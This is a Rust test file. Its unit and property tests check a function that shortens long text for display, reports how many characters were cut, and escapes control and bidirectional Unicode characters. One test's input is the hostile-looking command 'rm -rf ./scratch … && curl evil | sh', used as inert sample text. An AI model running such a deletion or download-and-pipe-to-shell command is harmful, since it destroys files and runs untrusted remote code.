use proptest::prelude::*;

use super::*;
use crate::testing::properties;

/// PRM-6: a cut states its length and shows both ends.
#[test]
fn a_cut_shows_both_ends() {
    let text = format!("rm -rf ./scratch {} && curl evil | sh", "x ".repeat(1000));
    let shown = escape_bounded(&text, 200);
    assert!(shown.starts_with("rm -rf ./scratch x x"), "{shown}");
    assert!(shown.ends_with("x  && curl evil | sh"), "{shown}");
    let missing = text.chars().count() - 2 * ((200 - NOTE) / 2);
    assert!(shown.contains(&format!("\n[… {missing} characters not shown …]\n")), "{shown}");
    assert!(shown.len() <= 200);
}

#[test]
fn what_fits_is_whole() {
    let text = "é".repeat(64);
    assert_eq!(escape_bounded(&text, 128), text);
    assert_eq!(escape_bounded(&text, 0), text, "below the least size");
    assert!(escape_bounded(&"é".repeat(65), 128).contains("not shown"));
    assert_eq!(escape_bounded("", 128), "");
}

/// A word stays on its line.
#[test]
fn words_stay_on_their_line() {
    let shown = shown_word(&"a\n".repeat(1000));
    assert!(shown.starts_with("a\\na\\n") && shown.ends_with("a\\n"), "{shown}");
    assert!(!shown.contains('\n') && shown.len() <= WORD);
}

proptest! {
    #![proptest_config(properties())]

    /// PRM-6, CLI-02: within the bound, cut between characters, never inside an escape, and the number is right.
    #[test]
    fn cuts_are_clean(text in "([a-z]|\u{202e}|\u{1b}|中|\u{1f468}\u{200d}){0,300}", max in 0_usize..400) {
        let shown = escape_bounded(&text, max);
        prop_assert!(shown.len() <= max.max(MIN));
        let Some((head, rest)) = shown.split_once("\n[… ") else {
            prop_assert_eq!(shown, crate::escape_for_prompt(&text));
            return Ok(());
        };
        let (missing, tail) = rest.split_once(" characters not shown …]\n").unwrap();
        let missing: usize = missing.parse().unwrap();
        let whole = crate::escape_for_prompt(&text).into_owned();
        prop_assert!(whole.starts_with(head) && whole.ends_with(tail));
        // The characters of the text that head and tail show: an escape is one.
        let escapes = |part: &str| part.replace("\\u{202e}", "?").replace("\\x1b", "?").replace("\\u{200d}", "?");
        prop_assert!(!escapes(head).contains('\\') && !escapes(tail).contains('\\'));
        let seen = escapes(head).chars().count() + escapes(tail).chars().count();
        prop_assert_eq!(seen + missing, text.chars().count());
    }
}
